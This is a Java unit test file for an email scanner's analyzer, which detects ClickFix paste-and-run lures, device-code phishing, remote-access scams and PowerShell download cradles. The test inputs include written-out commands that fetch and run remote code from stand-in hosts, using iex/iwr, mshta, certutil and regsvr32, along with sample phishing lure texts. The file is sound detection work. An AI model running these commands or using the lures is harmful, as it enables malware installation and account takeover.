package io.rampart.core.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;

import org.junit.jupiter.api.Test;

import io.rampart.core.analysis.Category;
import io.rampart.core.analysis.Finding;
import io.rampart.core.analysis.ScanContext;
import io.rampart.core.analysis.ScanReport;
import io.rampart.core.message.MessageParser;
import io.rampart.core.message.ParsedMessage;

class UserExecutionAnalyzerTest {
    private static final ScanContext ACME = ScanContext.builder().localDomains(java.util.Set.of("acme-corp.com")).build();

    private static List<Finding> analyze(String body) {
        return analyze(body, new ScanReport());
    }

    private static List<Finding> analyze(String body, ScanReport report) {
        String raw = "From: \"Support\" <support@example.net>\nTo: bob@acme-corp.com\nSubject: Notice\n"
            + "Content-Type: text/plain; charset=utf-8\n\n" + body + "\n";
        ParsedMessage message = new MessageParser().parse(raw.getBytes(StandardCharsets.UTF_8));
        new UserExecutionAnalyzer().analyze(message, ACME, report);
        return report.findings();
    }

    private static List<String> rules(List<Finding> findings) {
        return findings.stream().map(Finding::rule).collect(Collectors.toList());
    }

    @Test
    void theRunDialogAndAPasteIsClickFix() {
        List<Finding> findings = analyze("To open the document:\n1. Press the Windows key + R\n2. Press CTRL + V\n3. Press Enter");

        assertThat(rules(findings)).containsExactly("text.paste-and-run");
        assertThat(findings.get(0).score()).isEqualTo(UserExecutionAnalyzer.PASTE_AND_RUN_SCORE);
        assertThat(findings.get(0).category()).isEqualTo(Category.MALWARE);
        assertThat(findings.get(0).detail()).contains("windows key + r", "ctrl + v");
    }

    @Test
    void dressedAsAFixItWeighsMore() {
        List<Finding> findings = analyze("Word could not open the file. How to fix: press Win + R, then Ctrl + V and Enter.");

        assertThat(rules(findings)).containsExactly("text.paste-and-run");
        assertThat(findings.get(0).score()).isEqualTo(UserExecutionAnalyzer.COSTUMED_SCORE);
        assertThat(findings.get(0).detail()).contains("win + r, then ctrl + v", "dressed as a verification or a fix");
    }

    @Test
    void dressedAsARobotCheckItWeighsMoreToo() {
        List<Finding> findings = analyze("Verify you are human. Press Win+R, then Ctrl+V and Enter to finish the verification.");

        assertThat(rules(findings)).containsExactly("text.paste-and-run");
        assertThat(findings.get(0).score()).isEqualTo(UserExecutionAnalyzer.COSTUMED_SCORE);
        assertThat(findings.get(0).detail()).contains("dressed as a verification or a fix");
    }

    @Test
    void otherLanguagesAndTheMacAreReadToo() {
        assertThat(rules(analyze("请完成人机验证：1. 同时按下键盘 Win + R 键 2. 按 Ctrl + V 粘贴验证代码 3. 按回车键")))
            .containsExactly("text.paste-and-run");
        assertThat(rules(analyze("Drücken Sie die Windows-Taste + R und dann Strg + V, um die Prüfung abzuschließen.")))
            .containsExactly("text.paste-and-run");
        assertThat(rules(analyze("Press Command + Space, type Terminal and press Return, then press Command + V.")))
            .containsExactly("text.paste-and-run");
        assertThat(rules(analyze("Press Windows + X, choose Terminal (Admin), paste the code and press Enter.")))
            .containsExactly("text.paste-and-run");
    }

    @Test
    void theRunDialogWithoutPastingIsOrdinarySupport() {
        assertThat(analyze("Press the Windows key + R, type %appdata%\\Northwind and press Enter, then delete the cache folder."))
            .isEmpty();
        assertThat(analyze("按 Win + R 键，输入 services.msc 后按回车，重新启动打印服务。")).isEmpty();
        assertThat(analyze("To open the new share, copy this path: \\\\fs02.acme-corp.com\\finance then press the Windows key + R,"
            + " paste it with Ctrl + V and press Enter.")).as("what it pastes is shown").isEmpty();
        assertThat(analyze("Our packages are built for Windows and R 4.3; use paste0() to build the file names.")).isEmpty();
    }

    @Test
    void aPowerShellDownloadThatRunsIsACradle() {
        List<Finding> findings = analyze("Open PowerShell and run:\n"
            + "powershell -ep bypass -c \"iex (iwr 'https://outlook-repair-tool.net/fix.ps1' -UseBasicParsing)\"");

        assertThat(rules(findings)).containsExactly("text.download-cradle");
        assertThat(findings.get(0).score()).isEqualTo(UserExecutionAnalyzer.DOWNLOAD_CRADLE_SCORE);
        assertThat(findings.get(0).detail()).contains("iex (iwr");
        assertThat(rules(analyze("In a PowerShell window: irm get.scoop.sh | iex"))).as("an installer's line, weighed alike")
            .containsExactly("text.download-cradle");
    }

    @Test
    void hiddenOrEncodedPowerShellAndTheLivingOffTheLandDownloadersAreCradles() {
        List<Finding> hidden = analyze("Run: powershell.exe -NoProfile -w hidden -c \"iex (iwr https://x.example/a.ps1)\"");
        assertThat(rules(hidden)).containsExactly("text.download-cradle");
        assertThat(hidden.get(0).score()).isEqualTo(UserExecutionAnalyzer.STEALTHY_CRADLE_SCORE);
        assertThat(rules(analyze("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"))).containsExactly("text.download-cradle");
        assertThat(rules(analyze("Then run mshta https://cdn-verify.example/v.hta to finish."))).containsExactly("text.download-cradle");
        assertThat(rules(analyze("certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe"))).containsExactly("text.download-cradle");
        assertThat(rules(analyze("regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll"))).containsExactly("text.download-cradle");
    }

    @Test
    void powerShellThatDownloadsWithoutRunningItIsNoCradle() {
        assertThat(analyze("Download the report with Invoke-WebRequest -Uri https://reports.example.com/q4.csv -OutFile q4.csv."))
            .isEmpty();
        assertThat(analyze("The word iex is the Investors Exchange's ticker; nothing else here.")).isEmpty();
    }

    @Test
    void aDeviceSignInPageWithACodeIsDeviceCodePhishing() {
        List<Finding> findings = analyze("To join the meeting, go to https://microsoft.com/devicelogin and enter the code\n\n    GK7X-QM2L\n");

        assertThat(rules(findings)).containsExactly("text.device-code");
        assertThat(findings.get(0).score()).isEqualTo(UserExecutionAnalyzer.DEVICE_CODE_SCORE);
        assertThat(findings.get(0).detail()).contains("microsoft.com/devicelogin", "GK7X-QM2L");
        assertThat(rules(analyze("Enter FQK5HW3UF at https://login.microsoftonline.com/common/oauth2/deviceauth now.")))
            .containsExactly("text.device-code");
        assertThat(rules(analyze("Open google.com/device and type BDW-HQP-KXT to link the account.")))
            .containsExactly("text.device-code");
    }

    @Test
    void aDeviceSignInPageWithoutACodeIsAHowTo() {
        assertThat(analyze("Run az login --use-device-code, then open https://microsoft.com/devicelogin and enter the code "
            + "your terminal shows. Never enter a code someone else sends you.")).isEmpty();
        assertThat(analyze("Open streamly.tv/activate and enter the code ABCD1234 shown on your TV.")).isEmpty();
    }

    @Test
    void anAttachedDocumentIsReadWhenTheMailSaysNothing() {
        ScanReport report = new ScanReport();
        report.documentText("attachment 'Invoice.pdf'", "Verification required. Press Win + R, press Ctrl + V, press Enter.");

        List<Finding> findings = analyze("Please see the attached invoice.", report);

        assertThat(rules(findings)).containsExactly("text.paste-and-run");
        assertThat(findings.get(0).detail()).contains("in attachment 'Invoice.pdf'");
    }

    @Test
    void theWordsOfAnAttachedPageAreReadThroughTheEngine() {
        String raw = "From: \"Accounts Payable\" <ap@vendor-docs.example>\nTo: bob@acme-corp.com\nSubject: Remittance\n"
            + "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b\"\n\n--b\nContent-Type: text/plain\n\n"
            + "Please find the remittance advice attached.\n--b\nContent-Type: text/html; name=\"Remittance.html\"\n"
            + "Content-Disposition: attachment; filename=\"Remittance.html\"\n\n<html><body><p>Word could not open the file."
            + " Press Windows + R, then Ctrl + V and Enter.</p></body></html>\n--b--\n";
        io.rampart.core.verdict.Verdict verdict = io.rampart.core.engine.Analyzers.standardEngine(
            io.rampart.core.config.RampartConfiguration.defaults()).scanInline(raw.getBytes(StandardCharsets.UTF_8), ACME);

        assertThat(verdict.findings()).filteredOn(f -> f.rule().equals("text.paste-and-run")).singleElement()
            .satisfies(f -> assertThat(f.detail()).contains("in 'Remittance.html' (part 1.2)"));
    }

    @Test
    void aThreatWithTheLawAndALinkedArchiveIsAThreatDownloadFromAnySite() {
        java.util.function.Function<String, io.rampart.core.verdict.Verdict> scan = body -> io.rampart.core.engine.Analyzers
            .standardEngine(io.rampart.core.config.RampartConfiguration.defaults()).scanInline(("From: \"County Court\" "
                + "<notice@county-court-services.net>\nTo: bob@acme-corp.com\nSubject: Court notice\n\n" + body + "\n")
                .getBytes(StandardCharsets.UTF_8), ACME);
        io.rampart.core.verdict.Verdict notice = scan.apply("You are hereby summoned to appear in court on December 9. The "
            + "court notice: https://county-court-services.net/docs/Court_Notice_9121.zip");

        assertThat(notice.findings()).filteredOn(f -> f.rule().equals(UserExecutionAnalyzer.THREAT_DOWNLOAD_RULE)).singleElement()
            .satisfies(f -> {
                assertThat(f.score()).isEqualTo(UserExecutionAnalyzer.THREAT_DOWNLOAD_SCORE);
                assertThat(f.category()).isEqualTo(Category.MALWARE);
                assertThat(f.detail()).contains("Court_Notice_9121.zip", "county-court-services.net");
            });
        assertThat(notice.rules()).as("the sender's own site: no risky download on its own").doesNotContain("link.risky-download");
        assertThat(scan.apply("You are hereby summoned to appear in court on December 9. Details: "
            + "https://county-court-services.net/docs/notice.html").rules()).doesNotContain(UserExecutionAnalyzer.THREAT_DOWNLOAD_RULE);
        assertThat(scan.apply("The hearing schedule for December is attached as a zip: "
            + "https://county-court-services.net/docs/schedule.zip").rules())
            .as("an archive without a threat").doesNotContain(UserExecutionAnalyzer.THREAT_DOWNLOAD_RULE);
        assertThat(scan.apply("Your licence has expired and your account will be suspended on Friday. Download the latest "
            + "version: https://county-court-services.net/download/setup.exe").rules())
            .as("a vendor's renewal notice beside its installer").contains("text.lure-suspension")
            .doesNotContain(UserExecutionAnalyzer.THREAT_DOWNLOAD_RULE);
    }

    @Test
    void theHelpDeskCallerWhoWantsTheQuickAssistCodeIsARemoteAccessRequest() {
        List<Finding> findings = analyze("We noticed a spam flood on your mailbox. A technician will call you on Teams: open Quick"
            + " Assist (Ctrl + Windows + Q) and give him the 6-digit security code so he can connect and install the filter.");

        assertThat(findings).extracting(Finding::rule).containsExactly("text.remote-access-request");
        assertThat(findings.get(0).score()).isEqualTo(UserExecutionAnalyzer.REMOTE_ACCESS_AS_IT_SCORE);
        assertThat(findings.get(0).detail()).contains("quick assist", "posing as IT");
        assertThat(rules(analyze("To clear the spam from your mailbox, the IT help desk will call you. Open Quick\r\nAssist"
            + " from the Start menu, then read the security\r\ncode to the technician on the line.")))
            .as("the tool's name wrapped over two lines").containsExactly("text.remote-access-request");
    }

    @Test
    void aVendorAskingForTheTeamViewerIdWeighsLittleAndColleaguesAreNotRead() {
        List<Finding> findings = analyze("For the session on Monday, please install TeamViewer and send me your ID and password.");

        assertThat(findings).extracting(Finding::rule).containsExactly("text.remote-access-request");
        assertThat(findings.get(0).score()).isEqualTo(UserExecutionAnalyzer.REMOTE_ACCESS_SCORE);
        String raw = "From: \"IT Help Desk\" <helpdesk@acme-corp.com>\nTo: bob@acme-corp.com\nSubject: Remote session\n"
            + "Content-Type: text/plain\n\nOpen Quick Assist and give the technician the security code.\n";
        ScanReport report = new ScanReport();
        new UserExecutionAnalyzer().analyze(new MessageParser().parse(raw.getBytes(StandardCharsets.UTF_8)), ACME, report);
        assertThat(report.findings()).as("the organisation's own IT").isEmpty();
        assertThat(analyze("We use AnyDesk for remote support; see our website for the price list.")).as("no code handed over")
            .isEmpty();
        assertThat(rules(analyze("请下载安装向日葵远程控制，打开后把识别码和验证码告诉客服专员，由专员帮您完成退款操作。")))
            .as("the refund 'customer service' of Chinese fraud").containsExactly("text.remote-access-request");
    }

    @Test
    void aWarningThatQuotesTheLureOrNamesItsAttackersIsNotTheLure() {
        assertThat(analyze("Criminals show fake robot checks. The page says: \"To verify you are human, press Windows + R, then"
            + " Ctrl + V and Enter.\" No real CAPTCHA asks this.")).isEmpty();
        assertThat(analyze("Attackers send invitations that say: go to microsoft.com/devicelogin and enter the code GK7X-QM2L."
            + " Report such mail.")).isEmpty();
        assertThat(analyze("Threat actors paste iex (iwr 'https://x.example/a.ps1') into victims' consoles.")).isEmpty();
        assertThat(Warnings.toldOf("click \"fix\", then press win + r and ctrl + v", 14, 47, true))
            .as("a closed quotation before the instruction").isFalse();
        assertThat(Warnings.toldOf("she wrote \u201cto verify, press win + r and ctrl + v\u201d", 22, 48, true)).isTrue();
        assertThat(rules(analyze("To verify, press \"Windows + R\", then \"Ctrl + V\" and Enter."))).as("keys styled in quotes")
            .containsExactly("text.paste-and-run");
    }
}
